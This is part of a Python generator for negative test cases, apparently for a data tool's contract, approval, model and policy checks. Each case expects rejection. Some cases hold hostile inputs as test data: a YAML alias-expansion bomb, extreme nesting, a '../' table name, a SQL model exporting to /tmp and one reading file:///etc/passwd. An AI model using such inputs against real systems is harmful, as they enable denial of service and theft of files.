proj("contract-minimum-over-maximum", "a range that nothing can lie in", {"contracts/typed.odcs.yaml": contract(replace={"minimum: -1000000000": "minimum: 2000000000"})}, fails("line 17: the limits leave no value", 2), command=CHECK, approve=())
proj("contract-column-twice", "two columns of one name", {"contracts/typed.odcs.yaml": contract(append="      - {name: note, physicalName: id, logicalType: string}\n")}, fails("the column note stands there twice", 2), command=CHECK, approve=())
proj("contract-bad-table-name", "a table's name is an identifier", {"contracts/typed.odcs.yaml": contract(replace={"- name: typed": "- name: ../typed"})}, fails("line 12: a table name", 2), command=CHECK, approve=())
proj("contract-unknown-source", "a source that no file declares", {"contracts/typed.odcs.yaml": contract(replace={"value: files": "value: filez"})}, fails("find source filez", 2), command=CHECK, approve=())
proj("contract-aliases-without-end", "a YAML file whose aliases grow without end",
     {"contracts/typed.odcs.yaml": "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(f"{c}: &{c} [{','.join('*' + p for _ in range(9))}]\n" for p, c in zip("abcdefgh", "bcdefghi"))}, fails("typed.odcs.yaml, line 6: the document unfolds to more", 2), command=CHECK, approve=())
proj("contract-too-deep", "a YAML file nested without end", {"contracts/typed.odcs.yaml": "a: " + "[" * 20000 + "]" * 20000 + "\n"}, fails("typed.odcs.yaml, line 1: ", 2), command=CHECK, approve=())
proj("contract-yaml-boolean-name", "YAML reads a bare no as false; a column's name is never guessed", {"contracts/typed.odcs.yaml": contract(append="      - {name: no, logicalType: string}\n")}, fails("line 22: `name` is true or false", 2), command=CHECK, approve=())
proj("contract-tabs", "tabs do not indent YAML", {"contracts/typed.odcs.yaml": "apiVersion: v3.1.0\nschema:\n\t- name: typed\n"}, fails("typed.odcs.yaml, line 3: ", 2), command=CHECK, approve=())
proj("contract-latin-1", "project files are UTF-8", {"contracts/typed.odcs.yaml": contract(append="# caf\xe9\n").encode("latin-1")}, fails("line 22 is not UTF-8", 2), command=CHECK, approve=())
proj("contract-too-large", "project files have a limit", {"contracts/typed.odcs.yaml": {"generator": "contract_2mb"}}, fails("at most 1048576 bytes", 2), command=CHECK, approve=())
proj("contract-not-approved", "a contract that nobody approved lets nothing in", {}, fails("nobody approved it", 3), approve=())
proj("contract-changed-after-approval", "an approval is of one text; a rule that was loosened since needs another", {"after_approval:contracts/typed.odcs.yaml": contract(replace={"maxLength: 40": "maxLength: 400"})}, fails("it is not what was approved", 3))
proj("contract-approval-cut", "an approval without its signature is none", {"after_approval:contracts/typed.odcs.approval": "polder contract approval v1\ntyped\n" + "0" * 64 + "\n\n"}, fails("no enrolled approver signed its approval", 3))
proj("contract-approval-garbled", "a signature that does not verify is none", {"after_approval:contracts/typed.odcs.approval": "polder contract approval v1\n\u2014 root AAAA\n"}, fails("approval is damaged", 3))
proj("polder-yaml-unknown-key", "there is no key that switches sealing off", {"append:polder.yaml": "encryption: off\n"}, fails("line 14: `encryption`", 2), command=CHECK, approve=())
proj("model-copies-out", "a model cannot write files", {"models/leak.sql": "-- polder: materialized = table\ncopy (select * from typed) to '/tmp/leak.csv'\n"}, fails("models/leak.sql: copy begins no query", 2), command=("model", "run"))
proj("model-reads-files", "a model cannot read files", {"models/leak.sql": "-- polder: materialized = table\nselect * from 'file:///etc/passwd'\n"}, fails("models/leak.sql: a file or an address in place of a table", 2), command=("model", "run"))
proj("model-of-itself", "an order that does not end", {"models/a.sql": "-- polder: materialized = table\nselect * from b\n", "models/b.sql": "-- polder: materialized = table\nselect * from a\n"}, fails("models/a.sql: models read each other in a circle: a -> b -> a", 2), command=("model", "run"))
proj("model-unknown-setting", "a misspelt header is never ignored", {"models/a.sql": "-- polder: materialised = table\nselect 1 as one\n"}, fails("models/a.sql:1: the setting materialised is not known", 2), command=("model", "run"))
proj("policy-syntax", "a policy that cannot be read denies everything", {"after_approval:policies/bad.cedar": "permit (principal, action, resource when {};\n"}, fails("policies/bad.cedar:1", 2), command=("sql", "select 1 as one", "--output", "csv"))


def main():
    names = [entry["name"] for entry in CASES]
    assert len(names) == len(set(names)), "two cases of one name"
    for entry in CASES:
        if entry["source"] == "csv" and entry.get("files") is None:
            assert isinstance(entry["input"], dict) or (HERE / entry["input"]).is_file()
    text = "# Written by generate.py. The page README.md beside it says what the keys mean.\n"
    text += yaml.dump({"cases": CASES}, Dumper=Literal, sort_keys=False, allow_unicode=True, width=130)
    (HERE / "manifest.yaml").write_text(text)
    assert yaml.safe_load(text)["cases"] == yaml.safe_load(yaml.safe_dump(CASES)), "the manifest reads back"
    wanted = set()
    for entry in CASES:
        wanted |= {value for value in [entry["input"], *entry.get("files", {}).values()] if isinstance(value, str)}
    for folder in ("csv", "ndjson", "json", "xml", "excel", "avro", "arrow", "fixed", "parquet", "project"):
        for path in sorted((HERE / folder).rglob("*")):
            if path.is_file() and str(path.relative_to(HERE)) not in wanted:
                raise SystemExit(f"{path} belongs to no case; remove it")
    print(len(CASES), "cases")


if __name__ == "__main__":
    main()
